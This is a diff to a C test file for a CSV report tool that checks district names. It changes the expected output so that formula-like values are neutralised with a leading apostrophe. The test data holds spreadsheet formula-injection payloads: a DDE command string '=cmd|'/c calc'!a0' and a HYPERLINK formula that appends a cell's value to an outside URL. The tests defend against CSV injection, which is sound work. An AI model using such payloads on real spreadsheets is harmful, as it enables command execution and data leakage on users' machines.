@@ -400,16 +400,19 @@ Test(hostile, formula_like_district_cells_are_text_quoted_per_rfc_4180)
 		snprintf(cell, sizeof cell, "A%zu", i + 2);
 		snprintf(quoted, sizeof quoted, "区县“%s”不在本市区县名单中", districts[i]);
 		expect(&fs, i, "S3", row, quoted, "");
-		cr_assert_str_eq(fs.f[i][F_VALUE], districts[i]);
+		/* the value is kept as text by an apostrophe (csvout.h) */
+		cr_assert_eq(fs.f[i][F_VALUE][0], '\'');
+		cr_assert_str_eq(fs.f[i][F_VALUE] + 1, districts[i]);
 		cr_assert_str_eq(fs.f[i][F_CELL], cell);
 		cr_assert_str_eq(fs.f[i][F_COL], "1");
 	}
-	/* the raw line: quotes doubled, the field quoted, nothing escaped else */
+	/* the raw line: the apostrophe inside the quotes, quotes doubled,
+	 * nothing escaped else */
 	cr_assert(
 	    strstr(r.out,
-		   ",\"=HYPERLINK(\"\"http://example.invalid/?q=\"\"&A1,\"\"点击查看\"\")\","),
+		   ",\"'=HYPERLINK(\"\"http://example.invalid/?q=\"\"&A1,\"\"点击查看\"\")\","),
 	    "%s", r.out);
-	cr_assert(strstr(r.out, ",S3,error,,=1+2,"), "%s", r.out);
+	cr_assert(strstr(r.out, ",S3,error,,\"'=1+2\","), "%s", r.out);
 	findings_free(&fs);
 	tu_run_free(&r);
 }
@@ -439,7 +442,7 @@ Test(hostile, a_formula_in_the_unit_label_is_s3_quoting_it)
 	findings_parse(r.out, &fs);
 	cr_assert_eq(fs.n, 1, "%s", r.out);
 	expect(&fs, 0, "S3", "8", "填报单位“=cmd|'/c calc'!a0”不在本市区县名单中", "");
-	cr_assert_str_eq(fs.f[0][F_VALUE], "=cmd|'/c calc'!a0");
+	cr_assert_str_eq(fs.f[0][F_VALUE], "'=cmd|'/c calc'!a0");
 	cr_assert_str_eq(fs.f[0][F_CELL], "A8");
 	findings_free(&fs);
 	tu_run_free(&r);
